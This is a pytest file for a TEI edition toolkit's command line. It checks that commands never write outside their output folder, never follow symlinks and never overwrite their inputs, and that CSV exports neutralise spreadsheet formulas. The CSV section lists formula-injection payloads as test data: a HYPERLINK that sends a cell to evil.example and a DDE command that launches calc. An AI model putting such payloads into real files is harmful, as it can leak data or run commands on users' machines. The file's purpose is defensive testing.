"""Nothing lost, nothing run: every command that writes, run as a user runs it, against the ways an output can
go wrong. For each: the inputs keep their bytes, and nothing outside the output is created, changed or
deleted (a snapshot of the whole sandbox: paths, bytes, links), with
- a symbolic link to a folder elsewhere inside the output folder (writes and the stale-page cleanup must not
  follow it),
- an output folder that already holds a user's file,
- an output that is an input (the same path, a hard link, a symbolic link),
- an output folder that holds an input,
- two inputs with the same name in different folders;
and CSV cells a spreadsheet would run as formulas. Fast: the sample files, `--recogniser rules`, in-process.
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from conftest import SAMPLES, SOURCES, hand_written_tei
from tei.authority import load_authority
from tei.cli import main

RULES = ("--recogniser", "rules")
DOCS = [s.stem for s in SAMPLES]


def snapshot(root: Path, skip: Path | None = None) -> dict[str, str]:
    """Every path below root (links not followed) -> what it is: a folder, a link and its target, a file's hash."""
    seen = {}
    for here, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(here) / name
            if skip is not None and (path == skip or skip in path.parents):
                continue
            key = str(path.relative_to(root))
            if path.is_symlink():
                seen[key] = "link -> " + os.readlink(path)
            elif path.is_dir():
                seen[key] = "folder"
            else:
                seen[key] = hashlib.sha256(path.read_bytes()).hexdigest()
    return seen


def run(*args, cwd: Path | None = None):
    """The command in-process; a traceback (any exception but an exit) fails the test."""
    old = Path.cwd()
    if cwd is not None:
        os.chdir(cwd)
    try:
        result = CliRunner().invoke(main, [str(a) for a in args])
    finally:
        os.chdir(old)
    assert result.exception is None or isinstance(result.exception, SystemExit), \
        f"traceback from tei {' '.join(map(str, args))}: {result.exception!r}\n{result.stderr}"
    return result


@pytest.fixture
def box(tmp_path, sample_tei) -> Path:
    """A sandbox: in/ (transcripts, TEI, collection, a review report), elsewhere/ (what links point to)."""
    box = tmp_path / "box"
    (box / "in" / "sources").mkdir(parents=True)
    (box / "in" / "tei").mkdir()
    for source in SAMPLES:
        shutil.copy(source, box / "in" / "sources")
    for path in sample_tei.values():
        shutil.copy(path, box / "in" / "tei")
    shutil.copy(SOURCES / "collection.toml", box / "in" / "collection.toml")
    (box / "in" / "review.csv").write_text(
        "file,line,level,source,decision,why\n"
        "a.txt,3,review,Mr. Page,persName candidate,a title before a capitalised word\n", encoding="utf-8")
    (box / "elsewhere").mkdir()
    (box / "elsewhere" / "stale.html").write_text("someone else's page\n", encoding="utf-8")
    (box / "elsewhere" / "people.csv").write_text("someone else's table\n", encoding="utf-8")
    return box


# command -> (arguments with {in} and {out}, the folders inside {out} it writes into, what -o names)
COMMANDS = {
    "convert": (["convert", "{in}/sources", "-o", "{out}", *RULES], [], "folder"),
    "convert --report": (["convert", "{in}/sources", "-o", "{out}", *RULES, "--report", "{out}/review.csv"], [],
                         "folder"),
    "render": (["render", "{in}/tei", "-o", "{out}"], ["entity", "tei"], "folder"),
    "build": (["build", "{in}/sources", "-o", "{out}", "-j", "1", *RULES, "--report", "{out}/report.json"],
              ["html/entity", "html", "tei", ".tei-build"], "folder"),
    "validate -o": (["validate", "{in}/tei", "-o", "{out}/findings.txt"], [], "folder"),
    "authority suggest": (["authority", "suggest", "{in}/review.csv", "-o", "{out}"], [], "folder"),
    **{f"export {fmt}": (["export", fmt, "{in}/tei", "-o", "{out}/" + fmt, "--collection", "{in}/collection.toml"],
                         [], "folder") for fmt in ("cmif", "teicorpus", "datacite", "zenodo")},
    **{f"export {fmt}": (["export", fmt, "{in}/tei", "-o", "{out}", "--collection", "{in}/collection.toml",
                          "--sources", "{in}/sources"], [], "replaced") for fmt in ("dc", "csv", "bagit")},
}


def arguments(command: str, box: Path, out: Path) -> list[str]:
    return [a.replace("{in}", str(box / "in")).replace("{out}", str(out)) for a in COMMANDS[command][0]]


@pytest.mark.parametrize("command", COMMANDS)
def test_a_run_changes_nothing_outside_its_output(box, command):
    out = box / "out"
    before = snapshot(box)
    result = run(*arguments(command, box, out))
    assert result.exit_code in (0, 1), result.stderr
    assert snapshot(box, skip=out) == before
    assert out.exists()


@pytest.mark.parametrize("command", COMMANDS)
def test_a_link_inside_the_output_folder_is_never_written_or_deleted_through(box, command):
    out = box / "out"
    inner = COMMANDS[command][1] or ["linked"]
    for folder in inner:
        (out / folder).parent.mkdir(parents=True, exist_ok=True)
        if not (out / folder).exists():
            (out / folder).symlink_to(box / "elsewhere", target_is_directory=True)
    before = snapshot(box, skip=out)
    result = run(*arguments(command, box, out), *(["--force"] if COMMANDS[command][2] == "replaced" else []))
    assert snapshot(box, skip=out) == before, result.stderr  # elsewhere/ included: nothing written or deleted
    if COMMANDS[command][1]:  # the command writes into the link: refused, naming the link
        assert result.exit_code == 2, result.stderr
        assert "symbolic link" in result.stderr and str(out) in result.stderr


@pytest.mark.parametrize("command", COMMANDS)
def test_a_users_file_in_the_output_folder_is_kept_or_the_export_refused(box, command):
    out = box / "out"
    out.mkdir()
    (out / "notes.txt").write_text("my notes\n", encoding="utf-8")
    before = snapshot(box)
    result = run(*arguments(command, box, out))
    if COMMANDS[command][2] == "replaced":
        assert result.exit_code == 2
        assert str(out) in result.stderr and "--force" in result.stderr and "notes.txt" in result.stderr
        assert snapshot(box) == before
    else:
        assert result.exit_code in (0, 1), result.stderr
        assert (out / "notes.txt").read_text(encoding="utf-8") == "my notes\n"
        assert snapshot(box, skip=out) == {k: v for k, v in before.items() if not k.startswith("out")}


@pytest.mark.parametrize("fmt", ["dc", "csv", "bagit"])
def test_a_folder_export_replaces_its_own_earlier_output_and_with_force_a_users_folder(box, fmt):
    out = box / "out"
    command = arguments(f"export {fmt}", box, out)
    assert run(*command).exit_code == 0
    first = snapshot(out)
    assert run(*command).exit_code == 0, "the export's own earlier output must be replaceable without --force"
    assert snapshot(out) == first
    (out / "notes.txt").write_text("my notes\n", encoding="utf-8")
    assert run(*command).exit_code == 2
    assert (out / "notes.txt").is_file()
    before = snapshot(box, skip=out)
    result = run(*command, "--force")
    assert result.exit_code == 0, result.stderr
    assert snapshot(out) == first and snapshot(box, skip=out) == before


@pytest.mark.parametrize("fmt", ["dc", "csv", "bagit"])
@pytest.mark.parametrize("force", [[], ["--force"]])
def test_a_folder_export_into_a_folder_holding_an_input_is_always_refused(box, fmt, force):
    """`tei export csv a/tei -o a` deleted a/tei, the TEI it was exporting."""
    before = snapshot(box)
    for out, extra in [(box / "in", []), (box / "in" / "tei", []), (box, []),
                       (box / "other", ["--collection", box / "other" / "collection.toml"])]:
        if extra:
            out.mkdir(exist_ok=True)
            shutil.copy(box / "in" / "collection.toml", out / "collection.toml")
            before = snapshot(box)
        args = ["export", fmt, box / "in" / "tei", "-o", out, "--collection", box / "in" / "collection.toml",
                "--sources", box / "in" / "sources", *force, *extra]
        result = run(*args)
        assert result.exit_code == 2, (out, result.stderr)
        assert "input" in result.stderr and str(out) in result.stderr
        assert snapshot(box) == before


def _input_as_output(box: Path, how: str, output: Path) -> Path:
    """The output path: the input itself, or a hard link or a symbolic link to it."""
    if how == "same":
        return output
    link = box / "links" / output.name
    link.parent.mkdir(exist_ok=True)
    if how == "hard link":
        os.link(output, link)
    else:
        link.symlink_to(output)
    return link


FILE_WRITERS = {  # command -> (arguments, given the box and the output file; the input the output names)
    **{f"export {fmt}": (lambda box, o, fmt=fmt: ["export", fmt, *sorted((box / "in" / "tei").glob("*.xml")),
                                                  "-o", o, "--collection", box / "in" / "collection.toml"],
                         f"tei/{DOCS[0]}.xml") for fmt in ("cmif", "teicorpus", "datacite", "zenodo")},
    "export datacite --collection": (lambda box, o: ["export", "datacite", box / "in" / "tei" / f"{DOCS[0]}.xml",
                                                     "-o", o, "--collection", box / "in" / "collection.toml"],
                                     "collection.toml"),
    "convert --report": (lambda box, o: ["convert", *sorted((box / "in" / "sources").glob("*.txt")), "-o",
                                         box / "out", *RULES, "--report", o], f"sources/{DOCS[0]}.txt"),
    "validate -o": (lambda box, o: ["validate", *sorted((box / "in" / "tei").glob("*.xml")), "-o", o],
                    f"tei/{DOCS[1]}.xml"),
    "build --report": (lambda box, o: ["build", box / "in" / "sources", "-o", box / "out", "-j", "1", *RULES,
                                       "--report", o], f"sources/{DOCS[0]}.txt"),
}


@pytest.mark.parametrize("how", ["same", "hard link", "symbolic link"])
@pytest.mark.parametrize("command", FILE_WRITERS)
def test_an_output_file_that_is_an_input_is_refused(box, command, how):
    make, victim = FILE_WRITERS[command]
    output = _input_as_output(box, how, box / "in" / victim)
    before = snapshot(box)
    result = run(*make(box, output))
    assert result.exit_code == 2, result.stderr
    assert str(output) in result.stderr and "input" in result.stderr
    assert snapshot(box) == before


def test_render_refuses_to_write_its_tei_copy_over_the_input(box):
    """`tei render d/tei/x.xml -o d`: d/tei/x.xml is the page's TEI copy and the input itself."""
    edition = box / "edition"
    (edition / "tei").mkdir(parents=True)
    for path in (box / "in" / "tei").glob("*.xml"):
        shutil.copy(path, edition / "tei")
    before = snapshot(box)
    for inputs in ([edition / "tei" / f"{DOCS[0]}.xml"], [edition / "tei"]):
        result = run("render", *inputs, "-o", edition)
        assert result.exit_code == 2, result.stderr
        assert "input" in result.stderr
        assert snapshot(box) == before


def test_build_refuses_transcripts_in_a_folder_it_writes_and_cleans(box):
    """`tei build out/tei -o out`: the build writes out/tei/<stem>.xml and deletes leftover .*.tmp files there."""
    out = box / "out"
    (out / "tei").mkdir(parents=True)
    for source in (box / "in" / "sources").glob("*.txt"):
        shutil.copy(source, out / "tei")
    (out / "tei" / ".draft.tmp").write_text("a user's file that looks like a leftover\n", encoding="utf-8")
    before = snapshot(box)
    result = run("build", out / "tei", "-o", out, "-j", "1", *RULES)
    assert result.exit_code == 2, result.stderr
    assert str(out / "tei") in result.stderr and "input" in result.stderr
    assert snapshot(box) == before


def test_render_refuses_a_tei_copy_that_is_a_hard_link_to_an_input(box):
    """The inputs are a folder; d/tei/x.xml, which render would write, is another name for one of them."""
    edition = box / "edition"
    (edition / "tei").mkdir(parents=True)
    os.link(box / "in" / "tei" / f"{DOCS[0]}.xml", edition / "tei" / f"{DOCS[0]}.xml")
    before = snapshot(box)
    result = run("render", box / "in" / "tei", "-o", edition)
    assert result.exit_code == 2, result.stderr
    assert str(edition / "tei" / f"{DOCS[0]}.xml") in result.stderr and "is the input" in result.stderr
    assert snapshot(box) == before


def test_render_edition_called_as_a_library_does_not_write_or_delete_through_a_link(box):
    from tei.edition import render_edition
    from tei.errors import OutputRefused

    out = box / "out"
    out.mkdir()
    (out / "entity").symlink_to(box / "elsewhere", target_is_directory=True)
    before = snapshot(box, skip=out)
    with pytest.raises(OutputRefused, match="symbolic link"):
        render_edition(sorted((box / "in" / "tei").glob("*.xml")), out)
    assert snapshot(box, skip=out) == before


def test_suggest_refuses_to_write_over_its_report(box):
    report = box / "in" / "people.csv"
    shutil.copy(box / "in" / "review.csv", report)
    before = snapshot(box)
    result = run("authority", "suggest", report, "-o", box / "in")
    assert result.exit_code == 2 and str(report) in result.stderr
    assert snapshot(box) == before
    result = run("authority", "suggest", box / "in" / "review.csv", "-o", box / "in")  # beside it is fine
    assert result.exit_code == 0, result.stderr
    assert (box / "in" / "people.csv").read_bytes() != (box / "in" / "review.csv").read_bytes()


def _same_stems(box: Path) -> list[Path]:
    """sub1/doc and sub2/doc (and the samples), as transcripts and as TEI."""
    for kind, suffix in (("sources", ".txt"), ("tei", ".xml")):
        for sub, sample in (("sub1", 0), ("sub2", 1)):
            target = box / "same" / kind / sub / f"doc{suffix}"
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy(box / "in" / kind / f"{DOCS[sample]}{suffix}", target)
        shutil.copy(box / "in" / kind / f"{DOCS[0]}{suffix}", box / "same" / kind / f"{DOCS[0]}{suffix}")
    return [box / "same" / "sources", box / "same" / "tei"]


@pytest.mark.parametrize("command, written", [
    ("convert", lambda out: sorted(p.name for p in out.glob("*.xml"))),
    ("render", lambda out: sorted(p.name for p in (out / "tei").glob("*.xml"))),
    ("build", lambda out: sorted(p.name for p in (out / "tei").glob("*.xml"))),
    ("export dc", lambda out: sorted(p.name for p in out.glob("*.xml"))),
    ("export bagit", lambda out: sorted(p.name for p in (out / "data" / "tei").glob("*.xml"))),
])
def test_two_inputs_with_one_name_are_both_named_and_the_others_still_go(box, command, written):
    """s/sub1/doc.txt and s/sub2/doc.txt: convert exited 0 with one doc.xml."""
    sources, tei = _same_stems(box)
    out = box / "out"
    args = {"convert": ["convert", sources, "-o", out, *RULES], "render": ["render", tei, "-o", out],
            "build": ["build", sources, "-o", out, "-j", "1", *RULES],
            "export dc": ["export", "dc", tei, "-o", out, "--collection", box / "in" / "collection.toml"],
            "export bagit": ["export", "bagit", tei, "-o", out, "--collection", box / "in" / "collection.toml",
                             "--sources", sources]}[command]
    result = run(*args)
    assert result.exit_code == 1, result.stderr
    assert any("sub1" in line and "sub2" in line and "same name" in line for line in result.stderr.splitlines()), \
        result.stderr
    assert written(out) == sorted([f"{DOCS[0]}.xml", "doc.xml"])


# ------------------------------------------------------------------------------------------ CSV injection

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]


def test_a_cell_a_spreadsheet_would_run_gets_a_quote_and_quotes():
    from tei.spreadsheet import csv_bytes

    rows = [[value, "plain"] for value in [*HOSTILE, "\tTAB", "\r=CR", "a,b", "'quoted already"]]
    written = csv_bytes(["name", "other"], rows).decode("utf-8")
    assert list(csv.reader(io.StringIO(written, newline=""))) == [
        ["name", "other"], *(["'" + v, "plain"] for v in [*HOSTILE, "\tTAB", "\r=CR"]), ["a,b", "plain"],
        ["'quoted already", "plain"]]
    assert written.splitlines()[4] == '"\'-2+3",plain'
    assert csv_bytes(["name"], [[v] for v in HOSTILE], raw=True).decode("utf-8").splitlines()[1:] == \
        ['"=HYPERLINK(""http://evil.example/?""&A1,""x"")"', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]


def _hostile_tei(box: Path) -> Path:
    records = "".join(f'<person xml:id="p{i}"><persName>{name.replace("&", "&amp;")}</persName></person>'
                      for i, name in enumerate(HOSTILE))
    body = "".join(f'<p><persName ref="#p{i}">name</persName></p>' for i in range(len(HOSTILE)))
    return hand_written_tei(box / "hostile" / "h.xml", records=f"<listPerson>{records}</listPerson>", body=body)


def _cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def test_export_csv_makes_formulas_safe_for_spreadsheets_and_raw_keeps_them(box):
    tei = _hostile_tei(box)
    out = box / "out"
    result = run("export", "csv", tei, "-o", out, "--collection", box / "in" / "collection.toml")
    assert result.exit_code == 0, result.stderr
    names = {row[1] for row in _cells(out / "people.csv")[1:]}
    assert names == {"'" + name for name in HOSTILE}
    data = (out / "people.csv").read_text(encoding="utf-8")
    assert '"\'-2+3"' in data and "\"'@SUM(1+1)\"" in data  # prefixed and quoted, as OWASP advises
    result = run("export", "csv", tei, "-o", out, "--collection", box / "in" / "collection.toml", "--csv-raw")
    assert result.exit_code == 0, result.stderr
    assert {row[1] for row in _cells(out / "people.csv")[1:]} == set(HOSTILE)


def test_the_review_report_and_suggestions_make_formulas_safe(box):
    source = box / "hostile" / "=1+2.txt"
    source.parent.mkdir()
    source.write_text("A HEADING\n\nSoong met Mr. Page in Moscow. He said [blah] and left.\n", encoding="utf-8")
    report = box / "review.csv"
    result = run("convert", source.name, "-o", box / "out", *RULES, "--report", report, cwd=source.parent)
    assert result.exit_code == 0, result.stderr
    rows = _cells(report)[1:]
    assert rows and {row[0] for row in rows} == {"'=1+2.txt"}
    assert '"\'=1+2.txt"' in report.read_text(encoding="utf-8")
    run("convert", source.name, "-o", box / "out", *RULES, "--report", report, "--csv-raw", cwd=source.parent)
    assert {row[0] for row in _cells(report)[1:]} == {"=1+2.txt"}
    candidates = box / "candidates.csv"
    candidates.write_text("file,line,level,source,decision,why\n"
                          "a.txt,3,review,@Evil,persName candidate,x\n", encoding="utf-8")
    result = run("authority", "suggest", candidates, "-o", box / "suggested")
    assert result.exit_code == 0, result.stderr
    rows = _cells(box / "suggested" / "people.csv")[1:]
    assert rows[0][1] == "'@Evil"


def test_what_the_toolkit_made_safe_it_reads_back_as_written(box):
    """A review report's made-safe cell read by `tei authority suggest`, and a suggested row read as an
    authority file, stand for the value itself: the quote is not taken into the name."""
    report = box / "review.csv"
    report.write_text("file,line,level,source,decision,why\n"
                      "a.txt,3,review,\"'@Evil Name\",persName candidate,x\n", encoding="utf-8")
    result = run("authority", "suggest", report, "-o", box / "suggested")
    assert result.exit_code == 0, result.stderr
    row = _cells(box / "suggested" / "people.csv")[1]
    assert row[1] == "'@Evil Name"  # made safe once, not twice
    result = run("authority", "suggest", report, "-o", box / "raw", "--csv-raw")
    assert result.exit_code == 0 and _cells(box / "raw" / "people.csv")[1][1] == "@Evil Name", result.stderr
    extended = box / "authority" / "people.csv"  # the suggested row added to the people the toolkit knows
    extended.parent.mkdir()
    suggested = (box / "suggested" / "people.csv").read_text(encoding="utf-8").split("\n", 1)[1]
    extended.write_text((SOURCES / "authority" / "people.csv").read_text(encoding="utf-8") + suggested,
                        encoding="utf-8")
    authority = load_authority(extended.parent)
    assert "@Evil Name" in {entity.name for entity in authority.entities.values()}
